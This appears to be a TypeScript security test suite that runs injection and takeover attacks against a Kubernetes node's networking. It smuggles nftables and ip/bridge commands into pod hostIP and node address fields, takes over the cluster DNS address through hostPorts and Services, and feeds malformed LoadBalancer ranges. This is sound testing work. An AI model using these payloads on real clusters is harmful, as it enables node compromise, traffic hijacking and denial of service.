import { each, type Attack } from '../attack.ts';
import { at, list, type Target } from '../target.ts';

/**
 * Text that would be more than an address in nft's language, or an address that this node has no
 * use for.
 */
const hostIps = {
  table:
    '1.2.3.4 . tcp . 99 : 10.42.0.99 . 99 }\nadd table ip pwned\nadd chain ip pwned c { type ' +
    'filter hook input priority 0; policy accept; }\n#',
  semicolon: '1.2.3.4 : 1.2.3.4 . 80 }; add table ip pwned; #',
  include: '1.2.3.4 }\ninclude "/etc/passwd"\n#',
  newline: '1.2.3.4\n',
  ipv6: '::1',
  'ipv6-any': '::',
  mapped: '::ffff:1.2.3.4',
  network: '10.0.0.0/8',
  name: 'localhost',
  zero: '1.2.3.04',
};

const container = (target: Target, command: string[], more: object = {}) => ({
  name: 'c',
  image: target.image,
  imagePullPolicy: 'IfNotPresent',
  command,
  ...more,
});
const pod = (name: string, spec: object) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name, labels: { app: name } },
  spec: { terminationGracePeriodSeconds: 0, automountServiceAccountToken: false, ...spec },
});

async function runs(target: Target, ns: string, name: string): Promise<void> {
  await target.until(
    `pod ${name} runs`,
    async () =>
      at(
        (await target.call({ path: `/api/v1/namespaces/${ns}/pods/${name}` })).json,
        'status',
        'phase',
      ) === 'Running',
  );
}

/**
 * A pod that is asked through a Service of its own, made only now: does the node still carry out
 * what is new?
 */
async function newServiceAnswers(target: Target, ns: string): Promise<boolean> {
  const serve = [
    'sh',
    '-c',
    'mkdir /tmp/w && echo carried-out > /tmp/w/index.html && exec httpd -f -p 8080 -h /tmp/w',
  ];
  await target.must(
    'POST',
    `/api/v1/namespaces/${ns}/pods`,
    pod('web', { nodeName: target.node, containers: [container(target, serve)] }),
  );
  const service = await target.must('POST', `/api/v1/namespaces/${ns}/services`, {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name: 'web' },
    spec: { selector: { app: 'web' }, ports: [{ port: 80, targetPort: 8080 }] },
  });
  await runs(target, ns, 'web');
  for (let i = 0; i < 15; i++) {
    const got = await target.kubectl([
      '-n',
      ns,
      'exec',
      'web',
      '--',
      'sh',
      '-c',
      `timeout 2 wget -q -O - http://${String(at(service, 'spec', 'clusterIP'))}/ ` +
        '2>/dev/null || sleep 1',
    ]);
    if (got.includes('carried-out')) return true;
  }
  return false;
}

/** Whether names still resolve in a new pod of the node. */
async function namesResolve(target: Target, ns: string): Promise<boolean> {
  await target.must(
    'POST',
    `/api/v1/namespaces/${ns}/pods`,
    pod('asker', { nodeName: target.node, containers: [container(target, ['sleep', '600'])] }),
  );
  await runs(target, ns, 'asker');
  for (let i = 0; i < 8; i++) {
    const got = await target.kubectl([
      '-n',
      ns,
      'exec',
      'asker',
      '--',
      'sh',
      '-c',
      'timeout 3 nslookup kubernetes.default.svc.cluster.local 2>&1 || sleep 1',
    ]);
    if (/Name:\s+kubernetes/.test(got)) return true;
  }
  return false;
}

const dnsAddress = async (target: Target): Promise<string> => {
  const services = list(
    await target.must('GET', '/api/v1/namespaces/kube-system/services'),
    'items',
  );
  const dns = services.find((s) => at(s, 'metadata', 'name') === 'kube-dns');
  if (dns) return String(at(dns, 'spec', 'clusterIP'));
  return (
    (await target.onNode('ip -4 -o address show dev lo')).match(
      /inet (\d+\.\d+\.\d+\.10)\//,
    )?.[1] ?? 'unknown'
  );
};

/** A node that its own identity registers, with what it says of itself. */
async function hostileNode(target: Target, podCIDR: string, address: string): Promise<boolean> {
  const name = 'attack-node';
  const as = { user: `system:node:${name}`, groups: ['system:nodes', 'system:authenticated'] };
  await target.call({ method: 'DELETE', path: `/api/v1/nodes/${name}` });
  const status = {
    addresses: [{ type: 'InternalIP', address }],
    conditions: [{ type: 'Ready', status: 'True', reason: 'x', message: 'x' }],
  };
  const made = await target.call({
    method: 'POST',
    path: '/api/v1/nodes',
    body: {
      apiVersion: 'v1',
      kind: 'Node',
      metadata: { name },
      spec: { podCIDR, podCIDRs: [podCIDR] },
      status,
    },
    as,
  });
  target.later(() => target.call({ method: 'DELETE', path: `/api/v1/nodes/${name}` }));
  if (made.status !== 201) return false;
  await target.call({
    method: 'PATCH',
    path: `/api/v1/nodes/${name}/status`,
    type: 'application/merge-patch+json',
    body: { status },
    as,
  });
  // What the nodes make of it they make within a second; there is nothing to wait for where they
  // make nothing.
  await new Promise((resolve) => setTimeout(resolve, 2500));
  return true;
}

export const attacks: Attack[] = [
  ...each(
    'nft-text-in-host-ip',
    hostIps,
    async (target, hostIP) => {
      const ns = await target.namespace();
      const ports = [{ containerPort: 80, hostPort: 18080, hostIP }];
      const made = await target.call({
        method: 'POST',
        path: `/api/v1/namespaces/${ns}/pods`,
        body: pod('inj', {
          nodeName: target.node,
          containers: [container(target, ['sleep', '600'], { ports })],
        }),
      });
      if (made.status !== 201) return undefined;
      await runs(target, ns, 'inj').catch(() => undefined);
      if (!(await newServiceAnswers(target, ns)))
        return 'a new Service of another is not carried out any more';
      const tables = await target.onNode('nft list tables 2>/dev/null || true');
      return tables.includes('pwned') ? 'the node has a table of the pod’s' : undefined;
    },
    { needsNode: true },
  ),

  ...each(
    'bad-service-stops-others',
    {
      'overlapping-ranges': {
        spec: {
          type: 'LoadBalancer',
          loadBalancerSourceRanges: ['10.0.0.0/8', '10.1.0.0/16', '10.1.2.3/32'],
        },
        ingress: ['192.0.2.77'],
      },
      'everybody-and-one': {
        spec: { type: 'LoadBalancer', loadBalancerSourceRanges: ['0.0.0.0/0', '10.0.0.0/8'] },
        ingress: ['192.0.2.78'],
      },
      'host-bits': {
        spec: { type: 'LoadBalancer', loadBalancerSourceRanges: ['10.1.2.3/8', '10.0.0.0/8'] },
        ingress: ['192.0.2.79'],
      },
      'ipv6-among-them': {
        spec: {
          type: 'LoadBalancer',
          loadBalancerSourceRanges: ['2001:db8::/32'],
          externalIPs: ['2001:db8::1'],
        },
        ingress: ['2001:db8::2'],
      },
      'same-address-twice': {
        spec: {
          type: 'LoadBalancer',
          externalIPs: ['192.0.2.80', '192.0.2.80'],
          loadBalancerSourceRanges: ['10.0.0.0/8', '10.0.0.0/8'],
        },
        ingress: ['192.0.2.80', '192.0.2.80'],
      },
    },
    async (target, input) => {
      const ns = await target.namespace();
      const path = `/api/v1/namespaces/${ns}/services`;
      const spec = {
        selector: { app: 'web' },
        ports: [{ port: 81, targetPort: 8080 }],
        ...input.spec,
      };
      const made = await target.call({
        method: 'POST',
        path,
        body: { apiVersion: 'v1', kind: 'Service', metadata: { name: 'bad' }, spec },
      });
      if (made.status !== 201) return undefined;
      await target.call({
        method: 'PATCH',
        path: `${path}/bad/status`,
        type: 'application/merge-patch+json',
        body: { status: { loadBalancer: { ingress: input.ingress.map((ip) => ({ ip })) } } },
      });
      return (await newServiceAnswers(target, ns))
        ? undefined
        : 'a new Service of another is not carried out any more';
    },
    { needsNode: true },
  ),

  ...each(
    'take-cluster-dns',
    {
      'host-port-everywhere': () => ({ hostPort: 53 }),
      'host-port-on-its-address': (dns: string) => ({ hostPort: 53, hostIP: dns }),
      'external-address': (dns: string) => ({ externalIPs: [dns] }),
      'load-balancer-address': (dns: string) => ({ ingress: dns }),
    } as Record<
      string,
      (dns: string) => {
        hostPort?: number;
        hostIP?: string;
        externalIPs?: string[];
        ingress?: string;
      }
    >,
    async (target, input) => {
      const ns = await target.namespace();
      const wish = input(await dnsAddress(target));
      const ports = [
        {
          containerPort: 5353,
          protocol: 'UDP',
          ...(wish.hostPort ? { hostPort: wish.hostPort, hostIP: wish.hostIP } : {}),
        },
      ];
      const taker = await target.call({
        method: 'POST',
        path: `/api/v1/namespaces/${ns}/pods`,
        body: pod('taker', {
          nodeName: target.node,
          containers: [container(target, ['sleep', '600'], { ports })],
        }),
      });
      if (taker.status !== 201) return undefined;
      await runs(target, ns, 'taker').catch(() => undefined);
      if (!wish.hostPort) {
        const path = `/api/v1/namespaces/${ns}/services`;
        const spec = {
          type: 'LoadBalancer',
          selector: { app: 'taker' },
          externalIPs: wish.externalIPs,
          ports: [{ port: 53, targetPort: 5353, protocol: 'UDP' }],
        };
        const made = await target.call({
          method: 'POST',
          path,
          body: { apiVersion: 'v1', kind: 'Service', metadata: { name: 'taker' }, spec },
        });
        if (made.status !== 201) return undefined;
        if (wish.ingress)
          await target.call({
            method: 'PATCH',
            path: `${path}/taker/status`,
            type: 'application/merge-patch+json',
            body: { status: { loadBalancer: { ingress: [{ ip: wish.ingress }] } } },
          });
      }
      return (await namesResolve(target, ns))
        ? undefined
        : 'the questions of other pods go to a pod that took the address of the cluster DNS';
    },
    { needsNode: true },
  ),

  ...each(
    'hostile-node',
    {
      'commands-in-address': {
        cidr: '10.42.250.0/24',
        address:
          '192.0.2.9 self permanent\nfdb append 02:00:00:00:be:ef dev flannel.1 dst 192.0.2.66',
      },
      'route-in-address': {
        cidr: '10.42.251.0/24',
        address: '192.0.2.9 dev lo\nroute replace 203.0.113.0/24 via 192.0.2.66',
      },
      'network-of-the-world': { cidr: '203.0.113.0/24', address: '192.0.2.9' },
      'network-of-services': { cidr: '10.43.0.0/24', address: '192.0.2.9' },
      'network-of-all-pods': { cidr: '10.42.0.0/16', address: '192.0.2.9' },
    },
    async (target, input) => {
      if (!(await hostileNode(target, input.cidr, input.address))) return undefined;
      const seen = await target.onNode('bridge fdb show 2>/dev/null; ip -4 route show');
      if (seen.includes('192.0.2.66') || seen.includes('02:00:00:00:be:ef'))
        return 'a command of the node is carried out on another';
      const network = input.cidr.replace(/\.0\/24$/, '.').replace(/\.0\.0\/16$/, '.0.0/16');
      return seen
        .split('\n')
        .some(
          (line) =>
            line.startsWith(network) && line.includes('onlink') && !input.address.includes('\n'),
        )
        ? `packets for ${input.cidr} go to the node that asked for them`
        : undefined;
    },
    { needsNode: true },
  ),
];
